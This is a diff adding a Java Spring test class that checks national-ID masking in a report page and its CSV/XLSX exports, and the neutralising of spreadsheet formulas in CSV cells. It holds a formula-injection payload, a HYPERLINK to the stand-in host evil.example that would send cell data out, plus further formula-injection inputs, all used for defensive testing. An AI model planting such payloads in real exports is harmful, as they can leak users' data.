@@ -1,0 +1,82 @@
+package org.sila.report;
+
+import java.nio.charset.StandardCharsets;
+import java.time.Instant;
+
+import org.bson.Document;
+import org.junit.jupiter.api.Test;
+import org.sila.console.ConsoleTest;
+import org.sila.staff.Role;
+import org.springframework.beans.factory.annotation.Autowired;
+import org.springframework.data.mongodb.core.MongoTemplate;
+import org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors;
+import org.springframework.test.web.servlet.MockMvc;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;
+
+/**
+ * What beneficiaries typed reaches the measurement centre's page, its CSV and XLSX (also the e-mail's attachment)
+ * with national IDs masked, and a CSV never hands Excel a formula.
+ */
+@ConsoleTest
+class ReportConfidentialityTest {
+
+    private static final String QUESTION = "=HYPERLINK(\"http://evil.example/?\"&A1,\"اضغط\") هويتي ۱۰۲۳۴۵۶۷۸۹ وأخي 1023 456 788";
+
+    @Autowired
+    MockMvc mvc;
+    @Autowired
+    MongoTemplate mongo;
+
+    @Test
+    void anIdInAnUnansweredQuestionIsMaskedOnThePageAndInTheExports() throws Exception {
+        mongo.insert(new Document("text", QUESTION).append("key", QUESTION).append("kind", "UNKNOWN")
+                .append("at", java.util.Date.from(Instant.now())), ReportService.UNANSWERED);
+
+        String page = body("/console/reports");
+        String csv = body("/console/reports/unanswered.csv");
+        String xlsx = xlsxText(mvc.perform(org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get("/console/reports/unanswered.xlsx").with(manager()))
+                .andExpect(status().isOk()).andReturn().getResponse().getContentAsByteArray());
+        for (String out : new String[]{page, csv, xlsx}) {
+            assertThat(out).doesNotContain("۱۰۲۳۴۵۶۷۸۹", "1023 456 788").contains("••••••••۸۹", "••••••••••88");
+        }
+        assertThat(csv).contains("\r\n\"'=HYPERLINK(").doesNotContain("\r\n\"=HYPERLINK(");
+    }
+
+    @Test
+    void aCsvCellThatWouldRunAsAFormulaStaysText() {
+        var table = new ReportTable("t", "t", java.util.List.of("a", "b", "c", "d"), java.util.List.of(
+                java.util.Arrays.asList("=1+1", "+SUM(A1)", "@cmd", -3.5),
+                java.util.Arrays.asList("-2+3", "\t=x", "عادي", 4)));
+        String csv = new String(Exports.csv(table), StandardCharsets.UTF_8);
+        assertThat(csv).contains("\r\n'=1+1,'+SUM(A1),'@cmd,-3.5\r\n", "\r\n'-2+3,'\t=x,عادي,4\r\n");
+    }
+
+    private String body(String path) throws Exception {
+        return mvc.perform(org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get(path)
+                        .with(manager())).andExpect(status().isOk()).andReturn().getResponse()
+                .getContentAsString(StandardCharsets.UTF_8);
+    }
+
+    private static org.springframework.test.web.servlet.request.RequestPostProcessor manager() {
+        return SecurityMockMvcRequestPostProcessors.user("m-report").roles(Role.MANAGER.name());
+    }
+
+    /** The workbook's XML parts, where its text lives. */
+    private static String xlsxText(byte[] xlsx) throws Exception {
+        java.nio.file.Path file = java.nio.file.Files.createTempFile("report", ".xlsx");
+        try {
+            java.nio.file.Files.write(file, xlsx);
+            StringBuilder text = new StringBuilder();
+            try (var zip = new java.util.zip.ZipFile(file.toFile())) {
+                for (var entry : java.util.Collections.list(zip.entries())) {
+                    text.append(new String(zip.getInputStream(entry).readAllBytes(), StandardCharsets.UTF_8));
+                }
+            }
+            return org.jsoup.Jsoup.parse(text.toString(), "", org.jsoup.parser.Parser.xmlParser()).text();
+        } finally {
+            java.nio.file.Files.delete(file);
+        }
+    }
+}
